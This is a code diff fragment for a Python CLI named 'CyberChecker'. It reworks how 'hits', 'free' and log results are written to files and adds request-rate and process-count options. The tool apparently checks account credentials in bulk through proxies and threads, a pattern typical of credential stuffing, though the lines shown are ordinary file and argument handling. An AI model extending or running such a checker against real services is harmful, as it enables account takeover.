         log_file = os.path.join(results_dir, f"log_{timestamp}.txt")
         
-        # Export hits
-        with open(hits_file, 'w', encoding='utf-8') as f:
-            for line in self.hits:
-                f.write(line + '\n')
-        
-        # Export free
-        with open(free_file, 'w', encoding='utf-8') as f:
-            for line in self.free:
-                f.write(line + '\n')
-        
-        # Export logs
-        with open(log_file, 'w', encoding='utf-8') as f:
+        with self._results_lock:
+            self.result_paths = (hits_file, free_file, log_file)
+            self.free_count = 0
+            self._hits_fp = open(hits_file, 'w', encoding='utf-8', buffering=RESULT_BUFFER_SIZE)
+            self._free_fp = open(free_file, 'w', encoding='utf-8', buffering=RESULT_BUFFER_SIZE)
+            self._log_fp = open(log_file, 'w', encoding='utf-8', buffering=RESULT_BUFFER_SIZE)
+            
+            # Flush log lines written before the run started
             for line in self.logs:
-                f.write(line + '\n')
+                self._log_fp.write(line + '\n')
+            self.log_count = len(self.logs)
+            self.logs = []
+    
+    def export_results(self):
+        """Finish writing the result files and report where they were saved"""
+        if not self.result_paths:
+            return
+        
+        hits_file, free_file, log_file = self.result_paths
+        results_dir = os.path.dirname(hits_file)
+        log_count = self.log_count
         
         self.log(f"Results exported to '{results_dir}' directory:")
-        self.log(f"- Hits: {len(self.hits)} saved to {hits_file}")
-        self.log(f"- Free: {len(self.free)} saved to {free_file}")
-        self.log(f"- Logs: {len(self.logs)} saved to {log_file}")
-
+        self.log(f"- Hits: {self.stats.hits} saved to {hits_file}")
+        self.log(f"- Free: {self.free_count} saved to {free_file}")
+        self.log(f"- Logs: {log_count} saved to {log_file}")
+        
+        with self._results_lock:
+            for fp in (self._hits_fp, self._free_fp, self._log_fp):
+                fp.close()
+            self._hits_fp = self._free_fp = self._log_fp = None
+            self.result_paths = None
 
 def main():
     """Main function for CLI mode"""
@@ -725,9 +1091,20 @@ def main():
                          help='Number of threads (default: 10)')
     check_parser.add_argument('-o', '--timeout', type=int, default=10,
                          help='Request timeout in seconds (default: 10)')
+    check_parser.add_argument('-r', '--rps', type=float, default=None,
+                         help='Maximum requests per second across all threads (default: unlimited)')
+    check_parser.add_argument('-P', '--processes', type=int, default=0,
+                         help='Processes used to evaluate responses (default: 0, evaluate in threads)')
     
     args = parser.parse_args()
     
+    # Reject values that would make every worker fail
+    if args.command == 'check':
+        if args.rps is not None and args.rps <= 0:
+            check_parser.error('--rps must be greater than 0')
+        if args.processes < 0:
+            check_parser.error('--processes must be 0 or greater')
+    
     checker = ConsoleChecker()
     checker.log("CyberChecker CLI Mode")
     
@@ -740,7 +1117,9 @@ def main():
             args.proxy,
             args.proxy_type,
             args.threads,
-            args.timeout
+            args.timeout,
+            args.rps,
+            args.processes
         )
     else:
         parser.print_help()